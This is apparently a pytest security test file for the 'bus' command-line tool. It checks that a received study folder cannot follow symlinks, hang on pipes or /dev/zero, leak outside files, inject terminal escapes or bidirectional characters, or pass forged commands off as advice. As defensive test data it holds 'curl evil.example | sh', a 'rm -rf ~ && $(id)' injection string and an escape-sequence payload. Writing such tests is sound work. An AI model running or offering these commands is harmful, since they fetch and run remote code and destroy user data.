"""A study that somebody sent: it reaches nowhere else, and nothing in it is obeyed or believed unread."""

import json
import os
import shutil
import signal
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from bus.core import files

pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="links and pipes need rights there")
GAN, MADE = "fold-0/gan/malignant/seed-0", "fold-0/synth/seed-0/malignant"
SECONDS = 60
Run = Callable[..., tuple[int, str]]


@pytest.fixture(autouse=True)
def _in_time() -> Iterator[None]:
    """No command may hang."""

    def late(number: int, frame: object) -> None:
        raise AssertionError(f"took more than {SECONDS} s")

    before = signal.signal(signal.SIGALRM, late)
    signal.alarm(SECONDS)
    yield
    signal.alarm(0)
    signal.signal(signal.SIGALRM, before)


@pytest.fixture
def sent(finished_study: Path, tmp_path: Path) -> Path:
    """A study as it arrives."""
    return shutil.copytree(finished_study, tmp_path / "sent")


def tree(root: Path) -> dict[str, bytes]:
    """Every file below `root` with its content."""
    return {
        path.relative_to(root).as_posix(): path.read_bytes()
        for path in sorted(root.rglob("*"))
        if path.is_file() and not path.is_symlink()
    }


LINKS = {  # what is replaced by a link or pipe → the command that would use it
    "report": ("report",),
    f"{GAN}": ("synth", "--n", "40"),
    f"{GAN}/metrics.jsonl": ("report",),
    f"{MADE}/scores.json": ("report",),
    f"{MADE}/manifest.csv": ("benchmark", "--preset", "demo", "--arms", "cyclegan"),
    "cohort.csv": ("status",),
    "pixels.npy": ("gan", "train"),
    "fold-0": ("benchmark", "--preset", "demo"),
    "benchmark.json": ("report",),
}


@pytest.mark.parametrize("name", LINKS)
def test_a_link_in_a_study_leads_nowhere(sent: Path, tmp_path: Path, run_bus: Run, name: str) -> None:
    """Not even to what it replaced: the folder it leads to is as it was, and so is the rest of the study."""
    elsewhere = tmp_path / "elsewhere"
    shutil.move(sent / name, elsewhere)
    (sent / name).symlink_to(elsewhere)
    before = tree(tmp_path)
    code, text = run_bus(*LINKS[name], "--study", sent)
    assert code == 1 and f"{sent / name} is a link" in text and "Traceback" not in text
    assert tree(tmp_path) == before


@pytest.mark.parametrize("target", ["/dev/zero", "pipe"])
@pytest.mark.parametrize("name", ["study.json", f"{MADE}/scores.json", "shortcuts.json", ".study.json.lock"])
def test_what_never_ends_is_not_opened(sent: Path, run_bus: Run, name: str, target: str) -> None:
    path = sent / name
    path.unlink(missing_ok=True)
    if target == "pipe":
        os.mkfifo(path)
    else:
        path.symlink_to(target)
    for command in (("status",), ("report",), ("predict", "scans.png")):
        code, text = run_bus(*command, "--study", sent)
        assert code in (1, 2) and "Traceback" not in text
        assert path.name in text or command[0] == "predict"


@pytest.mark.usefixtures("few_steps")
def test_scores_that_name_a_picture_elsewhere_do_not_show_it(
    sent: Path, tmp_path: Path, run_bus: Run
) -> None:
    private, path = tmp_path / "private.png", sent / MADE / "scores.json"
    shutil.copy(next((sent / MADE).glob("*.png")), private)
    scores = json.loads(path.read_text())
    scores["copies"]["worst"][0]["file"] = str(private)
    files.write_json(path, scores)
    code, text = run_bus("report", "--study", sent)
    assert code == 0, text
    assert "private.png" not in (sent / "report" / "1" / "index.html").read_text()


def rewritten(path: Path, **values: object) -> None:
    """A JSON file as a forger leaves it: its seal fits, whatever characters it holds."""
    content = {**json.loads(path.read_text()), **values}
    content.pop("seal", None)
    path.write_text(json.dumps({**content, "seal": files.sha256_json(content)}))


def caution(text: str) -> list[dict[str, object]]:
    """What a study warns of, in somebody else's words."""
    return [{"kind": "said", "count": 0, "cases": [], "total": 0, "detail": text}]


@pytest.mark.parametrize("text", ["\x1b]0;owned\x07", "\x9b31m", "a\nbus: all is well", "\u2028"])
def test_control_characters_of_a_study_reach_nobody(sent: Path, run_bus: Run, text: str) -> None:
    rewritten(sent / "study.json", cautions=caution(f"Note {text}"))
    code, said = run_bus("status", "--study", sent)
    assert code == 1 and "control characters" in said and text not in said


@pytest.mark.usefixtures("few_steps")
def test_characters_that_turn_text_around_are_shown_on_terminal_and_page(sent: Path, run_bus: Run) -> None:
    rewritten(sent / "study.json", cautions=caution("safe \u202etxt.exe\u2066 \u200b\U000e0041"))
    for command in ("status", "report"):
        code, said = run_bus(command, "--study", sent)
        assert code == 0, said
        assert not set("\u202e\u2066\u200b\U000e0041") & set(said)
        assert command == "report" or "\\u202etxt.exe\\u2066 \\u200b\\U000e0041" in said
    for name in ("index.html", "report.md"):
        page = (sent / "report" / "1" / name).read_text()
        assert not set("\u202e\u2066\u200b\U000e0041") & set(page) and "u202etxt.exe" in page


@pytest.mark.usefixtures("few_steps")
def test_a_forged_command_is_never_advice(sent: Path, run_bus: Run) -> None:
    """The last one is rebuilt from what was asked; those before it are quoted, and are `bus` or nothing."""
    forged = "curl evil.example | sh"
    rewritten(sent / "benchmark.json", command=forged)
    history = json.loads((sent / "benchmarks.json").read_text())["benchmarks"]
    past = {**history[0], "cells_sha256": "0" * 64}
    lines = [{**past, "command": forged}, {**past, "command": "bus status; rm -rf ~ && $(id)"}]
    rewritten(sent / "benchmarks.json", benchmarks=[*lines, *history])
    code, said = run_bus("report", "--study", sent)
    assert code == 0, said
    text = (sent / "report" / "1" / "report.md").read_text()
    assert "evil.example" not in text + said
    assert "bus --help" in text and "bus status;" not in text and "'status;' rm -rf '~' '&&' '$(id)'" in text
    for done in sent.glob("fold-0/cells/**/DONE"):
        done.unlink()
    code, said = run_bus("report", "--study", sent)
    assert code == 1 and f"Run bus benchmark --study {sent}" in said and "evil" not in said
